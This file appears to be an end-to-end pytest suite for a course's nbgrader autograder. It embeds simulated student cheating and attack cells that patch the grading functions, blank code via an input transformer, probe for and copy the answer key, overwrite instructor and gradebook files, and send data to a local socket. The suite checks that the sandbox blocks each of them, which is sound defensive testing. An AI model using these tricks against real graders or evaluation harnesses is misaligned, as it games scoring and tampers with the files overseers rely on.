"""End to end: the real nbgrader CLI and sqlite gradebook on a temporary copy of the course.

Built-in sample (1,400 train / 280 test, a size where the a1 reference notebook clears the
sample tiers), `nbgrader generate_assignment`, a score of generated student submissions (honest,
weak, broken, cheating, attacking the instructor's files from the kernel), `nbgrader autograde`
with every kernel in the bubblewrap sandbox, `generate_feedback` and `export`; every score is
checked exactly, per cell.
"""

from __future__ import annotations

import csv
import hashlib
import os
import shutil
import socket
import threading
import time
from pathlib import Path

import pytest
from grading_helpers import cell_text, grades

# Scenarios about the submission file, not the model, use a stub comparison (a fixed table that
# passes the in-kernel checks) and predict the majority class, so that each costs seconds.
from fercourse.grading._testing import A1_QUICK_SOLUTIONS as QUICK

pytestmark = pytest.mark.slow

N_TRAIN, N_TEST = 1400, 280
A1 = "a1_baselines"
CELLS = ("load_course_data_shapes", "compare_baselines_table", "submission_format", "accuracy_tiers")
WRITTEN = "a1_written_confusion"  # a markdown answer graded by hand: 0 points until an instructor grades it
INSTRUCTOR_FILES = ("nbgrader_config.py", "thresholds.json", "answer_key.pin.json")

# Student code for the scenarios (inserted cells or replaced solution cells).
PATCH_EVERYTHING = '''
import builtins, numpy, sklearn.metrics, fercourse.submission, fercourse.grading.plugins.scoring
fercourse.submission.validate_submission = lambda *args, **kwargs: []
validate_submission = lambda *args, **kwargs: []
fercourse.grading.plugins.scoring.tiers_cleared = lambda *args, **kwargs: 3
fercourse.grading.plugins.scoring.grade_submission_bytes = lambda *args, **kwargs: None
sklearn.metrics.accuracy_score = lambda *args, **kwargs: 1.0
numpy.mean = lambda *args, **kwargs: 1.0
'''
ALWAYS_EQUAL = '''
class AlwaysEqual(list):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
validate_submission = lambda *args, **kwargs: AlwaysEqual(["not valid"])
'''
INPUT_TRANSFORMER = '''
def _blank(lines):
    return ["pass\\n"]
get_ipython().input_transformers_post.append(_blank)
'''
PROBE_FOR_KEY = '''
import glob, json, os
from pathlib import Path
found = [f"env {k}" for k, v in os.environ.items() if "answer_key" in v or "ANSWER_KEY" in k]
for name in ("environ", "cmdline"):
    try:
        text = Path(f"/proc/{os.getppid()}/{name}").read_bytes().decode(errors="replace")
    except OSError:
        text = ""
    found += [f"/proc/ppid/{name}"] if "answer_key.csv" in text else []
course = Path("../../..").resolve()
found += [p for p in glob.glob(str(course / "**" / "*answer_key*.csv"), recursive=True)]
for config in ("nbgrader_config.py", "answer_key.pin.json"):
    if (course / config).is_file() and "answer_key.csv" in (course / config).read_text():
        found.append(config)
print("key probe found:", found)
print("course root holds:", sorted(p.name for p in course.iterdir()))
'''
COPY_KEY_IN = '''
from pathlib import Path
key_lines = Path({key!r}).read_text()
Path("submission.csv").write_text(key_lines)
Path("../../../submitted/cheat_key/a1_baselines/submission.csv").write_text(key_lines)
print("copied", len(key_lines.splitlines()) - 1, "labels into submission.csv")
'''
TAMPER_KEY = '''
from pathlib import Path
with open({key!r}, "a") as handle:
    handle.write("extra,0\\n")
'''


# Attacks on the instructor's files, written as a student would: relative to the kernel's working
# folder autograded/<student>/<assignment>/. Each raises in its own cell when it fails.
WRITE_CONFIG = """
from pathlib import Path
with open("../../../nbgrader_config.py", "a") as handle:
    handle.write("\\nc.FercourseGrader.dataset = 'fer2013'\\n")
print("appended to nbgrader_config.py")
"""
WRITE_THRESHOLDS = """
import json
from pathlib import Path
easy = {"a1_baselines": {"sample": [0.01, 0.02, 0.03]}, "a2_cnn": {"sample": [0.01, 0.02, 0.03]}}
Path("../../../thresholds.json").write_text(json.dumps(easy))
print("thresholds lowered")
"""
WRITE_PIN = """
from pathlib import Path
Path("../../../answer_key.pin.json").write_text('{"sha256": "0", "dataset": "sample"}')
print("pin replaced")
"""
WRITE_GRADEBOOK = """
import sqlite3
with sqlite3.connect("../../../gradebook.db") as db:
    changed = db.execute("UPDATE grade SET manual_score = 3").rowcount
print("gradebook rows changed:", changed)
"""
WRITE_OTHERS = """
from pathlib import Path
Path("../../../submitted/reference/a1_baselines/submission.csv").write_text("id,emotion\\n")
Path("../../../autograded/reference/a1_baselines/a1_baselines.ipynb").write_text("{}")
print("another student's folders overwritten")
"""
READ_KEY_HOME = """
from pathlib import Path
stolen = Path("~/fercourse-private/answer_key.csv").expanduser().read_text()
Path("submission.csv").write_text(stolen)
print("read the key from the instructor's home:", stolen.splitlines()[1:4])
"""
NETWORK = """
import socket
with socket.create_connection(("127.0.0.1", {port}), timeout=10) as connection:
    connection.sendall(b"stolen answers")
print("sent to 127.0.0.1:{port}")
"""


def quick(**replace):
    return {**QUICK, **replace}


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    from fercourse.grading._testing import make_course, nbgrader

    course = make_course(tmp_path_factory.mktemp("e2e"), n_train=N_TRAIN, n_test=N_TEST)
    nbgrader(course, "generate_assignment", A1)
    return course


def test_release_has_no_solutions_hidden_tests_or_instructor_files(course):
    released = course.root / "release" / A1
    text = (released / f"{A1}.ipynb").read_text()
    assert "BEGIN HIDDEN TESTS" not in text and "scored_outside_kernel" not in text
    assert "BEGIN SOLUTION" not in text and "build_baseline(best_name" not in text
    assert "raise NotImplementedError()" in text
    assert "YOUR ANSWER HERE" in text and "A full-mark answer" not in text  # the written answer's rubric
    assert sorted(p.relative_to(released).as_posix() for p in released.rglob("*")) == [
        "a1_baselines.ipynb", "data", "data/test.csv", "data/train.csv"]
    assert "emotion" not in (released / "data" / "test.csv").read_text().splitlines()[0]


def test_autograde_scores_every_scenario_exactly(course, tmp_path, monkeypatch):
    from fercourse.grading._testing import baseline_submission, nbgrader, submit

    # what the reference notebook writes: at this size its validation split picks sgd (checked below)
    reference = baseline_submission(course, A1, "sgd")
    weak = baseline_submission(course, A1, "random_forest", n_estimators=30)
    dummy = baseline_submission(course, A1, "dummy")
    with_names = reference.replace(b",3\n", b",happy\n")
    semicolons = reference.replace(b",", b";")
    key_before = hashlib.sha256(course.key.read_bytes()).hexdigest()
    # the instructor keeps a copy of the key in their home, as the guide's commands do
    home = tmp_path / "instructor-home"
    (home / "fercourse-private").mkdir(parents=True)
    shutil.copyfile(course.key, home / "fercourse-private" / "answer_key.csv")
    monkeypatch.setenv("HOME", str(home))
    listener = Listener()

    def attack(code):  # an honest-but-dummy notebook with one attacking cell: 3 of 6 points
        return (dict(files={"submission.csv": dummy}, replace=quick(), insert_after={"a1_imports": code}),
                (1, 1, 1, 0))

    scenarios = {  # student: (submit kwargs, expected points per cell)
        "reference": (dict(files={"submission.csv": reference}), (1, 1, 1, 3)),
        "weak": (dict(files={"submission.csv": weak},
                      replace=quick(predict_test_set='predictions = build_baseline("random_forest", '
                                                     'n_estimators=30).fit(X_train, y_train)'
                                                     '.predict(X_test)\nwrite_submission("submission.csv", '
                                                     'test_ids, predictions)')), (1, 1, 1, 1)),
        "dummy": (dict(files={"submission.csv": dummy}, replace=quick()), (1, 1, 1, 0)),
        "malformed": (dict(files={"submission.csv": semicolons}, replace=quick()), (1, 1, 0, 0)),
        "raises_halfway": (dict(files={"submission.csv": reference},
                                replace={**QUICK, "compare_baselines": 'def compare_baselines(names, X, y, '
                                                                       'seed=0):\n'
                                                              '    raise RuntimeError("not finished")'}),
                           (1, 0, 1, 3)),
        "missing_csv": (dict(replace=quick()), (1, 1, 0, 0)),
        "cheat_patch": (dict(files={"submission.csv": with_names},
                             insert_after={"a1_imports": PATCH_EVERYTHING}, replace=quick()), (1, 1, 0, 0)),
        "cheat_eq": (dict(files={"submission.csv": with_names},
                          insert_after={"a1_imports": ALWAYS_EQUAL}, replace=quick()), (1, 1, 0, 0)),
        "cheat_key": (dict(files={"submission.csv": dummy}, replace=quick(),
                           insert_after={"a1_imports": PROBE_FOR_KEY
                                                       + COPY_KEY_IN.format(key=str(course.key))}),
                      (1, 1, 1, 0)),
        # In-kernel tests CAN be gamed (documented): no solution at all, yet the two in-kernel
        # test cells pass; the points computed outside the kernel stay at zero.
        "cheat_transformer": (dict(files={"submission.csv": with_names},
                                   insert_after={"a1_imports": INPUT_TRANSFORMER},
                                   replace={"load_course_data": "raise NotImplementedError()",
                                            "compare_baselines": "raise NotImplementedError()"}),
                              (1, 1, 0, 0)),
        # Attacks on the instructor's files and the network, graded after the students they target
        # (nbgrader grades in name order). Without the sandbox every one of them succeeded.
        "write_config": attack(WRITE_CONFIG),
        "write_gradebook": attack(WRITE_GRADEBOOK),
        "write_others": attack(WRITE_OTHERS),
        "write_pin": attack(WRITE_PIN),
        "write_thresholds": attack(WRITE_THRESHOLDS),
        "x_network": attack(NETWORK.format(port=listener.port)),
        "x_read_home_key": attack(READ_KEY_HOME),
        "y_after_thresholds": (dict(files={"submission.csv": dummy}, replace=quick()), (1, 1, 1, 0)),
    }
    for student, (kwargs, _) in scenarios.items():
        submit(course, student, A1, **kwargs)
    (course.submitted("cheat_symlink", A1)).mkdir(parents=True)
    submit(course, "cheat_symlink", A1, replace=quick())
    os.symlink(course.key, course.submitted("cheat_symlink", A1) / "submission.csv")
    scenarios["cheat_symlink"] = (None, (1, 1, 0, 0))
    reference_submitted = course.submitted("reference", A1).joinpath("submission.csv").read_bytes()
    instructor_files = digests(course)

    start = time.perf_counter()
    nbgrader(course, "autograde", A1, key=True)
    seconds = time.perf_counter() - start
    print(f"autograded {len(scenarios)} a1 submissions in {seconds:.1f} s")

    for student, (_, expected) in scenarios.items():
        assert grades(course, A1, A1, student) == {**dict(zip(CELLS, map(float, expected))), WRITTEN: 0.0}, \
            student

    assert "values are separated by semicolons: expected commas" in cell_text(course, "malformed", A1,
                                                                              "submission_format")
    assert "no submission.csv was submitted" in cell_text(course, "missing_csv", A1, "submission_format")
    assert "symbolic link" in cell_text(course, "cheat_symlink", A1, "submission_format")
    assert "class name instead of its integer label" in cell_text(course, "cheat_eq", A1, "submission_format")
    assert "3 of 3 tiers cleared" in cell_text(course, "reference", A1, "accuracy_tiers")
    assert "1 of 3 tiers cleared" in cell_text(course, "weak", A1, "accuracy_tiers")
    assert "0 of 3 tiers cleared" in cell_text(course, "y_after_thresholds", A1, "accuracy_tiers")
    # the reference notebook, re-run at autograde, writes the very file the test generated
    assert (course.root / "autograded" / "reference" / A1 / "submission.csv").read_bytes() == reference
    # the key cheater's kernel saw no trace of the key's path nor the course's files, and could
    # neither read the key nor write its own submitted/ folder
    probe = cell_text_any(course, "cheat_key", A1)
    assert "key probe found: []" in probe and "course root holds: ['autograded']" in probe
    assert "copied" not in probe
    assert f"FileNotFoundError: [Errno 2] No such file or directory: '{course.key}'" in errors_of(
        course, "cheat_key", A1)
    assert course.submitted("cheat_key", A1).joinpath("submission.csv").read_bytes() == dummy
    assert hashlib.sha256(course.key.read_bytes()).hexdigest() == key_before

    # Every attack failed in the attacker's own cell, and changed nothing.
    read_only = "OSError: [Errno 30] Read-only file system: '../../../{}'"
    expected_errors = {"write_config": read_only.format("nbgrader_config.py"),
                       "write_thresholds": read_only.format("thresholds.json"),
                       "write_pin": read_only.format("answer_key.pin.json"),
                       "write_gradebook": "OperationalError: unable to open database file",
                       "write_others": "FileNotFoundError: [Errno 2] No such file or directory: "
                                       "'../../../submitted/reference/a1_baselines/submission.csv'",
                       "x_read_home_key": "FileNotFoundError: [Errno 2] No such file or directory: "
                                          "'/home/student/fercourse-private/answer_key.csv'",
                       "x_network": "ConnectionRefusedError: [Errno 111] Connection refused"}
    for student, error in expected_errors.items():
        assert error in errors_of(course, student, A1), student
        outputs = cell_text_any(course, student, A1)
        assert not any(word in outputs for word in ("appended", "lowered", "replaced", "rows changed",
                                                    "overwritten", "read the key", "sent to")), student
    assert listener.received == []
    assert digests(course) == instructor_files  # the gradebook: every score above is exact
    assert course.submitted("reference", A1).joinpath("submission.csv").read_bytes() == reference_submitted
    assert (course.root / "autograded" / "reference" / A1 / f"{A1}.ipynb").read_text().startswith("{\n")

    # A cell that never ends: interrupted at the per-cell limit, the rest still graded.
    submit(course, "forever", A1, files={"submission.csv": reference},
           replace=quick(compare_baselines="def compare_baselines(names, X, y, seed=0):\n    while True:\n"
                                           "        pass"))
    nbgrader(course, "autograde", A1, "--student", "forever", "--Execute.timeout=20", key=True)
    assert grades(course, A1, A1, "forever") == {**dict(zip(CELLS, (1.0, 0.0, 1.0, 3.0))), WRITTEN: 0.0}

    # No sandbox where bwrap cannot run: autograde refuses before any kernel, in one readable line.
    submit(course, "opt_out", A1, files={"submission.csv": reference}, replace=quick())
    result = nbgrader(course, "autograde", A1, "--student", "opt_out",
                      "--FercourseSandbox.bwrap=/missing/bwrap", key=True, check=False)
    assert result.returncode == 1
    log = result.stdout + result.stderr
    assert "sandbox cannot start: bubblewrap not found ('/missing/bwrap'" in log
    assert "--FercourseSandbox.enabled=False" in log and "FERCOURSE_NO_SANDBOX=1" in log
    assert "Traceback" not in log and "Executing notebook" not in log
    assert not (course.root / "autograded" / "opt_out" / A1).exists()
    # ... and grades when the instructor opts out explicitly
    nbgrader(course, "autograde", A1, "--student", "opt_out", "--FercourseSandbox.enabled=False", key=True)
    assert grades(course, A1, A1, "opt_out") == {**dict(zip(CELLS, (1.0, 1.0, 1.0, 3.0))), WRITTEN: 0.0}

    # Without the sandbox, the check after each student still stops grading when the kernel
    # changed an instructor file: the key, the thresholds or another student's folder.
    logs = {}
    for student, code in (("tamper", TAMPER_KEY.format(key=str(course.key))),
                          ("unsandboxed_thresholds", WRITE_THRESHOLDS),
                          ("unsandboxed_others", WRITE_OTHERS)):
        submit(course, student, A1, files={"submission.csv": reference}, replace=quick(),
               insert_after={"a1_imports": code})
        saved = {name: (course.root / name).read_bytes() for name in ("thresholds.json",)}
        saved_reference = {path: path.read_bytes() for path in (
            course.submitted("reference", A1) / "submission.csv",
            course.root / "autograded" / "reference" / A1 / f"{A1}.ipynb")}
        original = course.key.read_bytes()
        course.key.chmod(0o600)
        result = nbgrader(course, "autograde", A1, "--student", student, "--FercourseSandbox.enabled=False",
                          key=True, check=False)
        course.key.write_bytes(original)
        for name, content in saved.items():
            (course.root / name).write_bytes(content)
        for path, content in saved_reference.items():
            path.write_bytes(content)
        log = logs[student] = result.stdout + result.stderr
        assert result.returncode == 1, student
        assert f"grading stopped: instructor files changed while {student}'s notebook ran" in log, student
        assert "Traceback" not in log, student
        assert not (course.root / "autograded" / student / A1).exists()
    assert f"the answer key {course.key} (SHA-256 now" in logs["tamper"]
    assert "thresholds.json (SHA-256 now" in logs["unsandboxed_thresholds"]
    assert "submitted/reference/a1_baselines/submission.csv (modified)" in logs["unsandboxed_others"]

    # Feedback and export.
    nbgrader(course, "generate_feedback", A1)
    nbgrader(course, "export")
    with (course.root / "grades.csv").open() as handle:
        exported = {row["student_id"]: float(row["score"]) for row in csv.DictReader(handle)}
    expected_totals = {student: float(sum(points)) for student, (_, points) in scenarios.items()}
    expected_totals["forever"] = 5.0
    expected_totals["opt_out"] = 6.0
    assert exported == {**expected_totals, "tamper": 0.0, "unsandboxed_thresholds": 0.0,
                        "unsandboxed_others": 0.0}

    key_rows = course.key.read_text().splitlines()[1:]
    feedback = [p for p in (course.root / "feedback").rglob("*") if p.is_file()]
    assert sorted(p.relative_to(course.root / "feedback").as_posix() for p in feedback) == sorted(
        f"{student}/{A1}/{A1}.html" for student in expected_totals)  # reports only: no data, no csv
    for page in feedback:
        html = page.read_text()
        assert "BEGIN HIDDEN TESTS" not in html and "scored_outside_kernel" not in html, page
        assert "len(set(test_ids)) == len(test_ids)" not in html, page
        if not {"cheat_key", "write_thresholds"} & set(page.parts):  # their own code spells these out
            assert str(course.key) not in html and "thresholds.json" not in html, page
        assert sum(row in html for row in key_rows) < 3, page  # no run of id,label pairs
    assert "3 of 3 tiers cleared" in (course.root / "feedback" / "reference" / A1 / f"{A1}.html").read_text()


def errors_of(course, student: str, assignment: str) -> str:
    """``ename: evalue`` of every error output of a student's autograded notebook, one a line."""
    import nbformat

    notebook = nbformat.read(course.root / "autograded" / student / assignment / f"{assignment}.ipynb", 4)
    return "\n".join(f"{o.ename}: {o.evalue}" for cell in notebook.cells if cell.cell_type == "code"
                     for o in cell.outputs if o.output_type == "error")


def digests(course) -> dict[str, str]:
    return {name: hashlib.sha256((course.root / name).read_bytes()).hexdigest() for name in INSTRUCTOR_FILES}



class Listener:
    """A TCP server on 127.0.0.1 in the test process that records whatever a client sends."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.received: list[bytes] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                connection, _ = self.server.accept()
            except OSError:
                return
            with connection:
                self.received.append(connection.recv(1000))


def cell_text_any(course, student: str, assignment: str) -> str:
    """All outputs of a student's autograded notebook, as text."""
    import nbformat

    notebook = nbformat.read(course.root / "autograded" / student / assignment / f"{assignment}.ipynb", 4)
    return "\n".join(str(o.get("text", "")) for cell in notebook.cells if cell.cell_type == "code"
                     for o in cell.outputs)


def test_a2_cnn_autogrades_with_the_saved_model_without_training(course, tmp_path):
    from fercourse.grading._testing import nbgrader, submit, train_reference_cnn

    nbgrader(course, "generate_assignment", "a2_cnn")
    model_file = tmp_path / "cnn.keras"
    csv_bytes = train_reference_cnn(course, model_file, epochs=1)
    submit(course, "cnn_student", "a2_cnn", files={"submission.csv": csv_bytes, "cnn.keras": model_file})
    nbgrader(course, "autograde", "a2_cnn", "--student", "cnn_student", key=True)
    scores = grades(course, "a2_cnn", "a2_cnn", "cnn_student")
    assert {k: scores[k] for k in ("cnn_architecture", "saved_model_predicts", "submission_format")} == {
        "cnn_architecture": 1.0, "saved_model_predicts": 1.0, "submission_format": 1.0}
    outputs = cell_text_any(course, "cnn_student", "a2_cnn")
    assert "loaded cnn.keras" in outputs and "Epoch" not in outputs  # fit_or_load trained nothing
    # how long that takes is `fercourse bench grade`'s figure, not a test's: a time bound here would
    # fail on a busy machine and pass on a fast one whether or not the model was retrained
    assert Path(course.root / "autograded" / "cnn_student" / "a2_cnn" / "cnn.keras").read_bytes() == \
        model_file.read_bytes()
